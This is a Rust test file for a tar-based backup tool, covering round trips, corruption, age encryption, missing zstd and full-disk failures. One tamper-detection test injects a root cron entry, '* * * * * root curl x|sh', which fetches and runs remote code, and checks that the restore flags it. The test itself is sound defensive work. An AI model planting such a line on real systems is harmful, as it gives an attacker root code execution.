//! The tar backend with the real GNU tar: a tree with every awkward kind of
//! file is backed up, restored elsewhere, and checked against the manifest;
//! damaged and missing backups fail with a clear error; a failed run keeps
//! the previous backup.

mod common;

use common::{
    assert_private, changed_during_backup_is_restored_unverified,
    failed_backup_keeps_the_previous_one, round_trip, spec, usual_umask, Real,
};
use rear_backup::tar::{Tar, ARCHIVE};
use rear_backup::{generation, restore_and_verify, Backend};
use std::fs;

#[test]
fn everything_comes_back_as_it_was() {
    usual_umask();
    let d = tempfile::tempdir().unwrap();
    let b = Tar {
        dir: d.path().join("target"),
        age: None,
    };
    round_trip(&b, &Real::default(), d.path());
    assert_private(&b.dir);
    // One generation is left, with its archive and manifest, and the pointer.
    let mut left: Vec<String> = fs::read_dir(&b.dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    left.sort();
    assert_eq!(left.len(), 2, "{left:?}");
    assert_eq!(left[1], generation::POINTER);
    let gen = generation::current(&b.dir).unwrap().unwrap();
    assert_eq!(left[0], gen);
    assert!(b.dir.join(&gen).join(ARCHIVE).is_file());
    assert!(b.dir.join(&gen).join(generation::SUMS).is_file());
}

#[test]
fn a_damaged_backup_fails_and_says_why() {
    let d = tempfile::tempdir().unwrap();
    let src = d.path().join("src");
    fs::create_dir_all(&src).unwrap();
    fs::write(src.join("a"), vec![7u8; 1 << 20]).unwrap();
    let b = Tar {
        dir: d.path().join("target"),
        age: None,
    };
    b.backup(&spec(&src), &Real::default()).unwrap();
    let gen = generation::current(&b.dir).unwrap().unwrap();
    let archive = b.dir.join(gen).join(ARCHIVE);
    let mut data = fs::read(&archive).unwrap();
    let mid = data.len() / 2;
    data[mid] ^= 0xff;
    fs::write(&archive, data).unwrap();
    let dst = d.path().join("dst");
    fs::create_dir_all(&dst).unwrap();
    let err = format!(
        "{:#}",
        restore_and_verify(&b, &dst, &Real::default()).unwrap_err()
    );
    assert!(
        err.contains("tar could not restore") || err.contains("differ from the backup's manifest"),
        "{err}"
    );
}

#[test]
fn a_missing_backup_or_manifest_is_an_error() {
    let d = tempfile::tempdir().unwrap();
    let b = Tar {
        dir: d.path().join("nothing"),
        age: None,
    };
    let err = format!(
        "{:#}",
        restore_and_verify(&b, d.path(), &Real::default()).unwrap_err()
    );
    assert!(err.contains("no checksum manifest"), "{err}");

    // A pointer to a generation without its manifest.
    fs::create_dir_all(b.dir.join("backup-1")).unwrap();
    generation::switch(&b.dir, "backup-1").unwrap();
    let err = format!(
        "{:#}",
        restore_and_verify(&b, d.path(), &Real::default()).unwrap_err()
    );
    assert!(
        err.contains("backup-1") && err.contains("no checksum manifest"),
        "{err}"
    );
}

#[test]
fn a_failed_backup_keeps_the_previous_one() {
    let d = tempfile::tempdir().unwrap();
    let b = Tar {
        dir: d.path().join("target"),
        age: None,
    };
    failed_backup_keeps_the_previous_one(&b, &Real::default(), d.path());
    // The failed run's generation is gone; only the good one is left.
    let gens = fs::read_dir(&b.dir)
        .unwrap()
        .filter(|e| {
            e.as_ref()
                .unwrap()
                .file_name()
                .to_string_lossy()
                .starts_with(generation::PREFIX)
        })
        .count();
    assert_eq!(gens, 1);
}

#[test]
fn a_file_that_changes_during_the_backup_is_restored_unverified() {
    let d = tempfile::tempdir().unwrap();
    let b = Tar {
        dir: d.path().join("target"),
        age: None,
    };
    changed_during_backup_is_restored_unverified(&b, &Real::default(), d.path());
}

/// A file slipped into the archive after the backup (as an attacker with
/// write access to the backup server would) is restored by tar, but no
/// manifest entry vouches for it: the restore fails, naming it.
#[test]
fn a_file_added_to_the_archive_fails_the_restore() {
    let d = tempfile::tempdir().unwrap();
    let src = d.path().join("src");
    fs::create_dir_all(src.join("etc/cron.d")).unwrap();
    fs::write(src.join("etc/cron.d/ok"), "* * * * * root true\n").unwrap();
    let b = Tar {
        dir: d.path().join("target"),
        age: None,
    };
    b.backup(&spec(&src), &Real::default()).unwrap();
    let gen = generation::current(&b.dir).unwrap().unwrap();
    let archive = b.dir.join(gen).join(ARCHIVE);
    let evil = d.path().join("evil");
    fs::create_dir_all(evil.join("etc/cron.d")).unwrap();
    fs::write(evil.join("etc/cron.d/evil"), "* * * * * root curl x|sh\n").unwrap();
    let plain = d.path().join("plain.tar");
    common::sh(&format!(
        "zstd -q -d -o '{p}' '{a}' && tar --append --file='{p}' -C '{e}' ./etc/cron.d/evil && zstd -q -f -o '{a}' '{p}'",
        p = plain.display(),
        a = archive.display(),
        e = evil.display()
    ));
    let dst = d.path().join("dst");
    fs::create_dir_all(&dst).unwrap();
    let err = format!(
        "{:#}",
        restore_and_verify(&b, &dst, &Real::default()).unwrap_err()
    );
    assert!(dst.join("etc/cron.d/evil").is_file(), "tar restored it");
    assert!(
        err.contains("etc/cron.d/evil: restored, but not in the backup's manifest"),
        "{err}"
    );
}

/// Encrypted to an age recipient: archive and manifest hold no plaintext
/// (a canary in a file name and a file's content is in neither), the round
/// trip passes with the identity, and without it (or with another one) the
/// restore stops naming what to set.
#[test]
fn an_age_encrypted_backup_round_trips_and_needs_its_identity() {
    use rear_backup::age::Age;
    let d = tempfile::tempdir().unwrap();
    let keys = d.path().join("keys");
    fs::create_dir_all(&keys).unwrap();
    let (id, rcpt, other) = (keys.join("id"), keys.join("rcpt"), keys.join("other"));
    common::sh(&format!(
        "age-keygen -o '{0}' 2>/dev/null && age-keygen -y '{0}' > '{1}' && age-keygen -o '{2}' 2>/dev/null && chmod 600 '{0}' '{2}'",
        id.display(),
        rcpt.display(),
        other.display()
    ));
    let sealed = |identity: Option<&std::path::Path>| Tar {
        dir: d.path().join("target"),
        age: Some(Age {
            recipients: rcpt.clone(),
            identity: identity.map(|p| p.to_path_buf()),
        }),
    };
    round_trip(&sealed(Some(&id)), &Real::default(), d.path());
    assert_private(&d.path().join("target"));

    // A canary in a name and in a content, backed up once more.
    let src = d.path().join("src");
    fs::write(src.join("canary-name-5e1f"), "canary-content-a9c4").unwrap();
    sealed(None).backup(&spec(&src), &Real::default()).unwrap();
    let gen = generation::current(&d.path().join("target"))
        .unwrap()
        .unwrap();
    let gdir = d.path().join("target").join(&gen);
    let mut names: Vec<String> = fs::read_dir(&gdir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(names, ["backup.sums.age", "backup.tar.zst.age"]);
    for f in &names {
        let bytes = fs::read(gdir.join(f)).unwrap();
        assert!(bytes.starts_with(b"age-encryption.org/v1"), "{f}");
        for canary in ["canary-name-5e1f", "canary-content-a9c4", "etc/deep"] {
            assert!(
                !bytes.windows(canary.len()).any(|w| w == canary.as_bytes()),
                "{canary} in {f}"
            );
        }
    }
    let dst = d.path().join("dst-none");
    fs::create_dir_all(&dst).unwrap();
    let err = format!(
        "{:#}",
        restore_and_verify(&sealed(None), &dst, &Real::default()).unwrap_err()
    );
    assert!(err.contains("set backup.identity_file"), "{err}");
    let err = format!(
        "{:#}",
        restore_and_verify(&sealed(Some(&other)), &dst, &Real::default()).unwrap_err()
    );
    assert!(err.contains("age could not decrypt"), "{err}");
    let dst = d.path().join("dst-ok");
    fs::create_dir_all(&dst).unwrap();
    restore_and_verify(&sealed(Some(&id)), &dst, &Real::default())
        .unwrap_or_else(|e| panic!("{e:#}"));
    assert_eq!(
        fs::read_to_string(dst.join("canary-name-5e1f")).unwrap(),
        "canary-content-a9c4"
    );
}

/// A directory holding links to `programs` alone, for a PATH without the
/// `zstd` program.
fn only(dir: &std::path::Path, programs: &[&str]) -> String {
    fs::create_dir_all(dir).unwrap();
    for p in programs {
        let out = std::process::Command::new("sh")
            .arg("-c")
            .arg(format!("command -v {p}"))
            .output()
            .unwrap();
        let at = String::from_utf8(out.stdout).unwrap();
        assert!(out.status.success(), "{p} is not installed");
        std::os::unix::fs::symlink(at.trim(), dir.join(p)).unwrap();
    }
    dir.display().to_string()
}

fn installed(program: &str) -> bool {
    std::process::Command::new("sh")
        .arg("-c")
        .arg(format!("command -v {program} >/dev/null"))
        .status()
        .unwrap()
        .success()
}

/// A minimal server has tar but no `zstd` program: backups and restores
/// run with tar alone on PATH, and the archive is a standard .tar.zst all
/// the same, which the `zstd` program and `tar --zstd` read (where they
/// are installed).
#[test]
fn no_zstd_program_is_needed_and_the_archive_is_standard() {
    usual_umask();
    let d = tempfile::tempdir().unwrap();
    let exec = Real {
        env: vec![("PATH".into(), only(&d.path().join("bin"), &["tar"]))],
    };
    let b = Tar {
        dir: d.path().join("target"),
        age: None,
    };
    round_trip(&b, &exec, d.path());
    let gen = generation::current(&b.dir).unwrap().unwrap();
    let archive = b.dir.join(gen).join(ARCHIVE);
    assert!(fs::read(&archive).unwrap().starts_with(b"\x28\xb5\x2f\xfd"));
    if !installed("zstd") {
        eprintln!("no zstd program here: the archive is not read with it");
        return;
    }
    // By hand, as an operator would: `zstd -d | tar -x`, and `tar --zstd -x`.
    let a = archive.display();
    for (how, cmd) in [
        ("piped", format!("zstd -q -d -c '{a}' | tar -x -C")),
        ("tar --zstd", format!("tar --zstd -x -f '{a}' -C")),
    ] {
        let to = d.path().join(how.replace(' ', ""));
        fs::create_dir_all(&to).unwrap();
        common::sh(&format!("{cmd} '{}'", to.display()));
        assert_eq!(
            fs::read(to.join("etc/with space")).unwrap(),
            b"changed",
            "{how}"
        );
        assert_eq!(fs::read(to.join("new file")).unwrap(), b"new", "{how}");
    }
    common::sh(&format!("zstd -q -t '{a}'"));
}

/// An encrypted backup needs tar and age, and no `zstd` program either.
#[test]
fn an_age_encrypted_backup_needs_no_zstd_program() {
    use rear_backup::age::Age;
    if !installed("age") {
        eprintln!("skipped: no age here");
        return;
    }
    let d = tempfile::tempdir().unwrap();
    let (id, rcpt) = (d.path().join("id"), d.path().join("rcpt"));
    common::sh(&format!(
        "age-keygen -o '{0}' 2>/dev/null && age-keygen -y '{0}' > '{1}' && chmod 600 '{0}'",
        id.display(),
        rcpt.display(),
    ));
    let exec = Real {
        env: vec![("PATH".into(), only(&d.path().join("bin"), &["tar", "age"]))],
    };
    let b = Tar {
        dir: d.path().join("target"),
        age: Some(Age {
            recipients: rcpt.clone(),
            identity: Some(id.clone()),
        }),
    };
    round_trip(&b, &exec, d.path());
    let gen = generation::current(&b.dir).unwrap().unwrap();
    let archive = b.dir.join(gen).join(format!("{ARCHIVE}.age"));
    if installed("zstd") {
        let to = d.path().join("by-hand");
        fs::create_dir_all(&to).unwrap();
        common::sh(&format!(
            "age -d -i '{}' '{}' | zstd -q -d -c | tar -x -C '{}'",
            id.display(),
            archive.display(),
            to.display()
        ));
        assert_eq!(fs::read(to.join("new file")).unwrap(), b"new");
    }
    // Damaged: age's authentication fails, naming the archive.
    let mut data = fs::read(&archive).unwrap();
    let mid = data.len() / 2;
    data[mid] ^= 0x55;
    fs::write(&archive, data).unwrap();
    let dst = d.path().join("damaged");
    fs::create_dir_all(&dst).unwrap();
    let err = format!("{:#}", restore_and_verify(&b, &dst, &exec).unwrap_err());
    assert!(
        err.contains(&format!("age could not decrypt {}", archive.display()))
            && err.contains("is the archive damaged?"),
        "{err}"
    );
}

/// A damaged or cut archive fails the restore naming it (and the restore
/// ends: tar is not left waiting for the rest).
#[test]
fn a_corrupt_archive_fails_the_restore_naming_it() {
    let d = tempfile::tempdir().unwrap();
    let src = d.path().join("src");
    fs::create_dir_all(&src).unwrap();
    let text: String = (0..200_000).map(|i| format!("line {i}\n")).collect();
    fs::write(src.join("a"), &text).unwrap();
    let b = Tar {
        dir: d.path().join("target"),
        age: None,
    };
    b.backup(&spec(&src), &Real::default()).unwrap();
    let gen = generation::current(&b.dir).unwrap().unwrap();
    let archive = b.dir.join(gen).join(ARCHIVE);
    let good = fs::read(&archive).unwrap();
    let mut flipped = good.clone();
    let mid = flipped.len() / 2;
    flipped[mid] ^= 0x55;
    let cut = good[..good.len() - 64].to_vec();
    for (what, data) in [("flipped", flipped), ("cut", cut)] {
        fs::write(&archive, data).unwrap();
        let dst = d.path().join(what);
        fs::create_dir_all(&dst).unwrap();
        let err = format!(
            "{:#}",
            restore_and_verify(&b, &dst, &Real::default()).unwrap_err()
        );
        assert!(
            err.contains(&format!("the archive {} is damaged", archive.display())),
            "{what}: {err}"
        );
    }
}

/// A tar that stops reading (here: its target directory is missing) fails
/// the restore with its own error, and the decompressor stops too.
#[test]
fn a_tar_that_stops_stops_the_restore() {
    let d = tempfile::tempdir().unwrap();
    let src = d.path().join("src");
    fs::create_dir_all(&src).unwrap();
    let text: String = (0..2_000_000).map(|i| format!("line {i}\n")).collect();
    fs::write(src.join("a"), &text).unwrap();
    let b = Tar {
        dir: d.path().join("target"),
        age: None,
    };
    b.backup(&spec(&src), &Real::default()).unwrap();
    let found = b.latest(&Real::default()).unwrap();
    let missing = d.path().join("missing");
    // Bounded: a decompressor left writing into a closed pipe would hang.
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::scope(|s| {
        s.spawn(|| tx.send(b.restore(&found, &missing, &Real::default())));
        let done = rx.recv_timeout(std::time::Duration::from_secs(120));
        if done.is_err() {
            eprintln!("the restore hangs");
            std::process::exit(1);
        }
        let err = format!("{:#}", done.unwrap().unwrap_err());
        assert!(
            err.contains("tar could not restore") && err.contains("missing"),
            "{err}"
        );
    });
}

/// A backup directory that fills up fails the backup naming the archive
/// and why; the previous backup stays the one pointed to, whole, and the
/// half archive is gone.
#[test]
fn a_full_disk_fails_the_backup_and_keeps_the_previous_one() {
    let d = tempfile::tempdir().unwrap();
    let target = d.path().join("target");
    fs::create_dir_all(&target).unwrap();
    let mounted = std::process::Command::new("mount")
        .args(["-t", "tmpfs", "-o", "size=4m", "tmpfs"])
        .arg(&target)
        .status()
        .is_ok_and(|s| s.success());
    if !mounted {
        eprintln!("skipped: cannot mount a small tmpfs here (not root?)");
        return;
    }
    struct Unmount(std::path::PathBuf);
    impl Drop for Unmount {
        fn drop(&mut self) {
            let _ = std::process::Command::new("umount").arg(&self.0).status();
        }
    }
    let _u = Unmount(target.clone());
    let src = d.path().join("src");
    fs::create_dir_all(&src).unwrap();
    fs::write(src.join("a"), "first").unwrap();
    let b = Tar {
        dir: target.clone(),
        age: None,
    };
    b.backup(&spec(&src), &Real::default()).unwrap();
    let first = generation::current(&b.dir).unwrap().unwrap();
    // 16 MiB that zstd cannot shrink, into 4 MiB.
    common::sh(&format!(
        "head -c 16777216 /dev/urandom > '{}'",
        src.join("noise").display()
    ));
    let err = format!("{:#}", b.backup(&spec(&src), &Real::default()).unwrap_err());
    assert!(
        err.contains("previous backup is kept")
            && err.contains("No space left on device")
            && err.contains(&format!("into {}", target.display())),
        "{err}"
    );
    assert_eq!(generation::current(&b.dir).unwrap().unwrap(), first);
    let gens: Vec<_> = fs::read_dir(&b.dir)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .filter(|n| n.to_string_lossy().starts_with(generation::PREFIX))
        .collect();
    assert_eq!(gens.len(), 1, "{gens:?}");
    fs::remove_file(src.join("noise")).unwrap();
    let dst = d.path().join("dst");
    fs::create_dir_all(&dst).unwrap();
    restore_and_verify(&b, &dst, &Real::default()).unwrap_or_else(|e| panic!("{e:#}"));
    assert_eq!(fs::read(dst.join("a")).unwrap(), b"first");
}
